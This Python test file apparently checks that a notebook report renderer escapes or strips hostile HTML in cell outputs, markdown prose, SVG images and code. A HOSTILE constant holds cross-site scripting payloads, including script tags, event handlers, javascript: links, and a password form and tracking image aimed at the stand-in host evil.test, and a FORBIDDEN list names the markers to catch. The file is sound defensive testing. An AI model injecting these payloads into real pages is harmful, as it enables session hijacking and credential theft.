"""Outputs and prose as HTML: they are shown, and can do nothing."""

import base64

import pandas as pd
import pytest

from benchside.report.output import MAX_CHARS, code_html, output_html, prose_html

HOSTILE = (
    '<script>alert(1)</script><img src="http://evil.test/?stolen" onerror="alert(2)">'
    '<meta http-equiv="refresh" content="0;url=http://evil.test"><form action="http://evil.test">'
    '<input name="password"></form><iframe src="http://evil.test"></iframe>'
    '<a href="javascript:alert(3)" onclick="alert(4)">here</a><style>body{display:none}</style>'
    '<link rel="stylesheet" href="http://evil.test"><base href="http://evil.test">'
    '<svg onload="alert(5)"></svg><p style="background:url(http://evil.test)" '
    'class="outcome">kept</p>'
)
FORBIDDEN = (
    "<script", "<img", "<meta", "<form", "<input", "<iframe", "onerror", "onclick", "onload",
    "javascript:", "<style", "<link", "<base", "<svg", "style=", "class=", "evil.test",
)  # fmt: skip


def displayed(**data: str) -> dict[str, object]:
    kinds = {kind.replace("__", "/"): value for kind, value in data.items()}
    return {"output_type": "display_data", "data": kinds, "metadata": {}}


def test_html_of_a_cell_is_shown_and_does_nothing() -> None:
    shown = output_html(displayed(text__html=HOSTILE)).removeprefix(
        '<div class="shown" tabindex="0">'
    )
    assert "kept" in shown
    assert [sign for sign in FORBIDDEN if sign in shown] == []


def test_html_in_prose_is_text() -> None:
    shown = prose_html(f"**bold** {HOSTILE}\n\n![x](http://evil.test/x.png) | no")
    assert "<strong>bold</strong>" in shown
    assert "&lt;script&gt;" in shown
    assert "<img" not in shown and "<script" not in shown


def test_a_table_of_pandas_stays_a_table() -> None:
    frame = pd.DataFrame({"unit": ["mmol/L", "<b>"], "n": [1, 2]})
    shown = output_html(displayed(text__html=frame.to_html(), text__plain=str(frame)))
    assert shown.count("<tr>") == 3
    assert "<td>mmol/L</td>" in shown and "<td>&lt;b&gt;</td>" in shown


@pytest.mark.parametrize(
    ("output", "says"),
    [
        ({"output_type": "stream", "name": "stderr", "text": "a\x1b[31m<red>\x1b[0m"},
         '<pre class="stderr" tabindex="0">a&lt;red&gt;</pre>'),
        ({"output_type": "error", "ename": "KeyError", "evalue": "'x'", "traceback": []},
         "KeyError: &#x27;x&#x27;"),
        ({"output_type": "error", "traceback": ["\x1b[31mE\x1b[0m", "f"]},
         ">E\nf<"),
        (displayed(image__png="iVBO\nRw0=", text__plain="<Figure>"),
         'alt="Output of the cell: &lt;Figure&gt;" src="data:image/png;base64,iVBORw0="'),
        (displayed(image__png='"><script>'), "base64,&quot;&gt;&lt;script&gt;"),
        (displayed(text__markdown="*a*"), "<em>a</em>"),
        (displayed(text__plain="<b>"), "&lt;b&gt;"),
        (displayed(**{"application__vnd.x": "1"}), "[application/vnd.x: open the notebook"),
    ],
)  # fmt: skip
def test_each_kind_of_output(output: dict[str, object], says: str) -> None:
    assert says in output_html(output)


def test_svg_is_an_image_so_that_its_scripts_stay_asleep() -> None:
    picture = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    shown = output_html(displayed(**{"image__svg+xml": picture}))
    encoded = shown.partition("data:image/svg+xml;base64,")[2].partition('"')[0]
    assert base64.b64decode(encoded).decode() == picture
    assert "<script" not in shown


def test_long_outputs_are_cut_and_say_so() -> None:
    text = output_html({"output_type": "stream", "name": "stdout", "text": "x" * (MAX_CHARS + 7)})
    assert "[7 characters more in the notebook]" in text
    rows = "".join(f"<tr><td>{number}</td></tr>" for number in range(MAX_CHARS // 10))
    table = output_html(displayed(text__html=f"<table>{rows}</table>"))
    assert len(table) < MAX_CHARS + 500
    assert table.count("<table>") == table.count("</table>") == 1
    assert "characters more in the notebook" in table


def test_code_is_highlighted_and_escaped() -> None:
    shown = code_html("x = '<b>'\n")
    assert "<b>" not in shown
    assert "&lt;b&gt;" in shown
